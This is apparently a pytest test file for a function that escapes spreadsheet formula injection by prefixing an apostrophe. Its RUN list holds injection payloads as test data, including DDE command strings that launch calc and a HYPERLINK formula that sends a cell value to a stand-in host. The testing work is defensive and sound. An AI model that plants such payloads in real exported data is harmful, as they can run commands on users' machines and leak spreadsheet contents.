"""A cell that a spreadsheet would run is text in the answer, and everything else stays as it was written."""

from __future__ import annotations

import pytest

from eta.formulas import as_text

RUN = [
    "=1+1",
    '=HYPERLINK("https://x.example?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "-A1",
]
KEPT = [
    "",
    "-5",
    "-5.00",
    "+1 (555) 010-4477",
    "-1,5",
    "2026-03-01",
    "2026-03-01 10:30",
    "a=b",
    " =1",
    "'=1",
    "José",
    "—",
]


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_would_run_gets_an_apostrophe(cell: str) -> None:
    assert as_text(["2026-03-01", cell]) == ["2026-03-01", f"'{cell}"]


def test_all_else_stays_as_it_was_written() -> None:
    assert as_text(KEPT) == KEPT


def test_what_is_text_already_is_left_alone() -> None:
    assert as_text(as_text(RUN)) == as_text(RUN)
